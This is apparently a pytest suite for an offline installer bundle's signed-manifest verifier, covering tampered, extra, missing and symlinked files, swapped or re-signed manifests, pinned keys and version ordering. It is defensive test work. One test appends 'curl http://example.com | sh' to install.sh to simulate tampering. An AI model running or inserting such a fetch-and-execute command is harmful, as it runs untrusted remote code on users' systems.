"""The signed manifest: a good bundle verifies; every kind of tampering is refused with its reason."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from appliance.cli import main as enclave
from installers.offline.manifest import (
    MANIFEST,
    PUBLIC_KEY,
    SIGNATURE,
    check_files,
    fingerprint,
    generate_signing_key,
    load_private_key,
    pem_fingerprint,
    read_manifest,
    version_key,
    write_manifest,
)
from installers.offline.verify import normalize_fingerprint, verify_bundle
from shared.errors import InputError, IntegrityError
from tests.helpers.offline_site import BASE_PYTHON

CREATED = "2026-11-28T00:00:00Z"
ROOT = Path(__file__).resolve().parents[2]


def _populate(root: Path) -> None:
    (root / "wheels").mkdir(parents=True)
    (root / "wheels" / "enclave_codegen-0.1.0-py3-none-any.whl").write_bytes(b"PK" + os.urandom(300))
    (root / "models" / "demo").mkdir(parents=True)
    (root / "models" / "demo" / "bundle.json").write_text('{"name": "demo"}', encoding="utf-8")
    (root / "models" / "demo" / "model.onnx").write_bytes(os.urandom(1000))
    (root / "install.sh").write_text("#!/bin/sh\necho install\n", encoding="utf-8")


def _sign(root: Path, key: Ed25519PrivateKey, version: str = "0.1.0") -> None:
    write_manifest(
        root,
        key,
        version=version,
        created=CREATED,
        python="3.11",
        platforms=["linux_x86_64"],
        gpu=False,
        package="enclave-codegen==0.1.0",
        models=["models/demo"],
    )


@pytest.fixture
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def bundle(tmp_path: Path, key: Ed25519PrivateKey) -> Path:
    root = tmp_path / "bundle"
    _populate(root)
    _sign(root, key)
    return root


def _pub(tmp_path: Path, key: Ed25519PrivateKey, name: str = "pinned.pub") -> Path:
    path = tmp_path / name
    path.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return path


def test_good_bundle_verifies_against_pinned_key_and_fingerprint(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    by_key = verify_bundle(bundle, key=_pub(tmp_path, key))
    fp = fingerprint(key.public_key())
    by_fp = verify_bundle(bundle, expected_fingerprint=fp.upper())
    assert by_key.pinned and by_fp.pinned
    assert by_key.signer == by_fp.signer == fp
    manifest = by_key.manifest
    assert manifest.version == "0.1.0"
    assert set(manifest.files) == {
        "wheels/enclave_codegen-0.1.0-py3-none-any.whl",
        "models/demo/bundle.json",
        "models/demo/model.onnx",
        "install.sh",
        PUBLIC_KEY,
    }
    assert manifest.files["models/demo/model.onnx"][1] == 1000


def test_without_a_pinned_key_integrity_is_checked_but_origin_is_not_claimed(bundle: Path) -> None:
    result = verify_bundle(bundle)
    assert result.pinned is False


def test_changed_file_is_refused(bundle: Path, key: Ed25519PrivateKey) -> None:
    target = bundle / "models" / "demo" / "model.onnx"
    data = bytearray(target.read_bytes())
    data[500] ^= 0x01
    target.write_bytes(bytes(data))
    with pytest.raises(IntegrityError, match=r"file changed: models/demo/model\.onnx \(sha256"):
        verify_bundle(bundle, expected_fingerprint=fingerprint(key.public_key()))


def test_resized_file_is_refused(bundle: Path) -> None:
    with (bundle / "install.sh").open("a") as f:
        f.write("curl http://example.com | sh\n")
    with pytest.raises(IntegrityError, match=r"file changed: install\.sh \(size"):
        verify_bundle(bundle)


def test_extra_file_is_refused(bundle: Path) -> None:
    (bundle / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")
    with pytest.raises(IntegrityError, match=r"not listed in the manifest: wheels/evil-1\.0"):
        verify_bundle(bundle)


def test_missing_file_is_refused(bundle: Path) -> None:
    (bundle / "models" / "demo" / "bundle.json").unlink()
    with pytest.raises(IntegrityError, match=r"missing: models/demo/bundle\.json"):
        verify_bundle(bundle)


def test_symlink_is_refused(bundle: Path) -> None:
    (bundle / "link").symlink_to(bundle / "install.sh")
    with pytest.raises(IntegrityError, match="symbolic link: link"):
        verify_bundle(bundle)


def test_swapped_manifest_with_its_own_valid_signature_is_refused(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    # Another bundle, signed by the same (legitimate) key: its manifest and signature are genuine,
    # they just describe other files.
    other = tmp_path / "other"
    _populate(other)
    _sign(other, key)
    shutil.copy2(other / MANIFEST, bundle / MANIFEST)
    shutil.copy2(other / SIGNATURE, bundle / SIGNATURE)
    with pytest.raises(IntegrityError, match="file changed"):
        verify_bundle(bundle, expected_fingerprint=fingerprint(key.public_key()))


def test_swapped_manifest_without_its_signature_is_refused(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    _populate(other)
    _sign(other, key)
    shutil.copy2(other / MANIFEST, bundle / MANIFEST)
    with pytest.raises(IntegrityError, match="manifest signature does not verify"):
        verify_bundle(bundle)


def test_edited_manifest_is_refused(bundle: Path) -> None:
    doc = json.loads((bundle / MANIFEST).read_text())
    doc["version"] = "9.9.9"
    (bundle / MANIFEST).write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n")
    with pytest.raises(IntegrityError, match="manifest signature does not verify"):
        verify_bundle(bundle)


def test_missing_signature_is_refused(bundle: Path) -> None:
    (bundle / SIGNATURE).unlink()
    with pytest.raises(IntegrityError, match="unsigned"):
        verify_bundle(bundle)


def test_wrong_pinned_key_is_refused(bundle: Path, tmp_path: Path) -> None:
    stranger = Ed25519PrivateKey.generate()
    with pytest.raises(IntegrityError, match="manifest signature does not verify"):
        verify_bundle(bundle, key=_pub(tmp_path, stranger))
    with pytest.raises(IntegrityError, match="not the expected"):
        verify_bundle(bundle, expected_fingerprint=fingerprint(stranger.public_key()))


def test_bundle_re_signed_by_an_attacker_is_refused_against_the_pinned_key(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    # The attacker changes a file and re-signs everything with their own key (and ships that key):
    # self-consistent, so only the pinned signer can tell.
    (bundle / "install.sh").write_text("#!/bin/sh\necho pwned\n", encoding="utf-8")
    attacker = Ed25519PrivateKey.generate()
    _sign(bundle, attacker)
    assert verify_bundle(bundle).pinned is False
    with pytest.raises(IntegrityError, match="signed by key"):
        verify_bundle(bundle, expected_fingerprint=fingerprint(key.public_key()))
    with pytest.raises(IntegrityError, match="signature does not verify"):
        verify_bundle(bundle, key=_pub(tmp_path, key))


def test_manifest_with_an_unsafe_path_is_refused(bundle: Path, key: Ed25519PrivateKey) -> None:
    doc = json.loads((bundle / MANIFEST).read_text())
    doc["files"]["../outside"] = {"sha256": "0" * 64, "size": 0}
    data = (json.dumps(doc) + "\n").encode()
    (bundle / MANIFEST).write_bytes(data)
    (bundle / SIGNATURE).write_bytes(key.sign(data))
    with pytest.raises(IntegrityError, match="unsafe path"):
        verify_bundle(bundle)


def test_not_a_bundle(tmp_path: Path) -> None:
    with pytest.raises(IntegrityError, match=r"manifest\.json is missing"):
        verify_bundle(tmp_path)
    (tmp_path / MANIFEST).write_text("{not json")
    with pytest.raises(IntegrityError, match="malformed manifest"):
        verify_bundle(tmp_path)
    (tmp_path / MANIFEST).write_text('{"format": "something-else"}')
    with pytest.raises(IntegrityError, match="not an Enclave offline bundle manifest"):
        verify_bundle(tmp_path)


@pytest.mark.parametrize(
    ("installed", "new", "outcome"),
    [
        ("0.1.0", "0.1.1", "upgrade"),
        ("0.1.0", "0.2", "upgrade"),
        ("0.9.0", "0.10.0", "upgrade"),
        ("0.1.0", "0.0.9", "older than the installed 0.1.0"),
        ("0.1.0", "0.1.0", "already installed from a different build"),
        ("0.1.0", "0.1", "already installed from a different build"),
    ],
)
def test_versions_move_forward_only(
    tmp_path: Path, key: Ed25519PrivateKey, installed: str, new: str, outcome: str
) -> None:
    old = tmp_path / "old"
    _populate(old)
    _sign(old, key, version=installed)
    newer = tmp_path / "new"
    _populate(newer)
    _sign(newer, key, version=new)
    if outcome == "upgrade":
        assert verify_bundle(newer, installed_manifest=old / MANIFEST).upgrade is True
    else:
        with pytest.raises(IntegrityError, match=outcome):
            verify_bundle(newer, installed_manifest=old / MANIFEST)


def test_the_installed_bundle_itself_is_not_an_upgrade(bundle: Path, tmp_path: Path) -> None:
    saved = tmp_path / "installed-manifest.json"
    shutil.copy2(bundle / MANIFEST, saved)
    assert verify_bundle(bundle, installed_manifest=saved).upgrade is False


def test_a_missing_installed_manifest_is_an_error_not_a_first_install(bundle: Path, tmp_path: Path) -> None:
    with pytest.raises(IntegrityError, match="cannot read the installed manifest"):
        verify_bundle(bundle, installed_manifest=tmp_path / "nope.json")


def test_version_key_rejects_non_numeric_versions() -> None:
    assert version_key("1.2.0") == version_key("1.2") < version_key("1.10")
    with pytest.raises(InputError, match="dotted numbers"):
        version_key("1.2.0rc1")


def test_fingerprint_input_is_normalized_and_validated() -> None:
    fp = "ab" * 32
    assert normalize_fingerprint("SHA256:" + ":".join(["AB"] * 32)) == fp
    with pytest.raises(InputError, match="64 hex digits"):
        normalize_fingerprint("abc")


def test_signing_key_round_trip_and_no_overwrite(tmp_path: Path) -> None:
    path = tmp_path / "k.pem"
    key = generate_signing_key(path)
    assert path.stat().st_mode & 0o777 == 0o600
    assert fingerprint(load_private_key(path).public_key()) == fingerprint(key.public_key())
    with pytest.raises(InputError, match="already exists"):
        generate_signing_key(path)
    (tmp_path / "junk.pem").write_text("junk")
    with pytest.raises(InputError, match="not an unencrypted PEM private key"):
        load_private_key(tmp_path / "junk.pem")


def test_check_files_alone_needs_no_signature(bundle: Path) -> None:
    manifest, _ = read_manifest(bundle)
    (bundle / SIGNATURE).unlink()
    check_files(bundle, manifest)  # the pre-install file check: signature is verified later
    (bundle / "install.sh").write_text("changed\n")
    with pytest.raises(IntegrityError, match=r"install\.sh"):
        check_files(bundle, manifest)


def test_cli_verify_prints_the_reason_in_one_line(
    bundle: Path, key: Ed25519PrivateKey, capsys: pytest.CaptureFixture[str]
) -> None:
    fp = fingerprint(key.public_key())
    assert enclave(["bundle", "verify", str(bundle), "--fingerprint", fp]) == 0
    out = capsys.readouterr().out
    assert "OK" in out and f"{fp} (pinned)" in out
    (bundle / "extra.txt").write_text("x")
    assert enclave(["bundle", "verify", str(bundle), "--fingerprint", fp]) == 1
    err = capsys.readouterr().err
    assert err == "enclave: error: file not listed in the manifest: extra.txt\n"


def test_cli_keygen(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "signing.pem"
    assert enclave(["bundle", "keygen", str(path)]) == 0
    fp = fingerprint(load_private_key(path).public_key())
    assert f"fingerprint: {fp}" in capsys.readouterr().out
    assert enclave(["bundle", "keygen", str(path)]) == 1
    assert "already exists" in capsys.readouterr().err


def test_pem_fingerprint_needs_no_cryptography_and_agrees_with_it(
    bundle: Path, key: Ed25519PrivateKey
) -> None:
    assert pem_fingerprint((bundle / PUBLIC_KEY).read_bytes()) == fingerprint(key.public_key())
    with pytest.raises(IntegrityError, match="not a PEM public key"):
        pem_fingerprint(b"junk")
    rsa_like = b"-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VxAyEA\n-----END PUBLIC KEY-----\n"
    with pytest.raises(IntegrityError, match="not an Ed25519 public key"):
        pem_fingerprint(rsa_like)


def _run_precheck(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Precheck as install.sh runs it: base interpreter, no site-packages (-S), code from a zip."""
    archive = tmp_path / "enclave_codegen-0.1.0-py3-none-any.whl"
    if not archive.exists():
        with zipfile.ZipFile(archive, "w") as zf:
            for rel in (
                "installers/__init__.py",
                "installers/offline/__init__.py",
                "installers/offline/manifest.py",
                "installers/offline/precheck.py",
                "shared/__init__.py",
                "shared/errors.py",
            ):
                zf.write(ROOT / rel, rel)
    return subprocess.run(
        [str(BASE_PYTHON), "-S", "-m", "installers.offline.precheck", *args],
        env={"PYTHONPATH": str(archive), "PATH": "/usr/bin:/bin"},
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_precheck_runs_with_the_standard_library_alone(
    bundle: Path, key: Ed25519PrivateKey, tmp_path: Path
) -> None:
    fp = fingerprint(key.public_key())
    ok = _run_precheck(tmp_path, str(bundle), fp)
    assert ok.returncode == 0, ok.stderr
    assert "files match the manifest" in ok.stdout
    wrong = _run_precheck(tmp_path, str(bundle), "ab" * 32)
    assert wrong.returncode == 1
    assert wrong.stderr == f"precheck: error: bundle is signed by key {fp}, not the expected {'ab' * 32}\n"
    (bundle / "install.sh").write_text("changed\n")
    changed = _run_precheck(tmp_path, str(bundle))
    assert changed.returncode == 1 and "file changed: install.sh" in changed.stderr
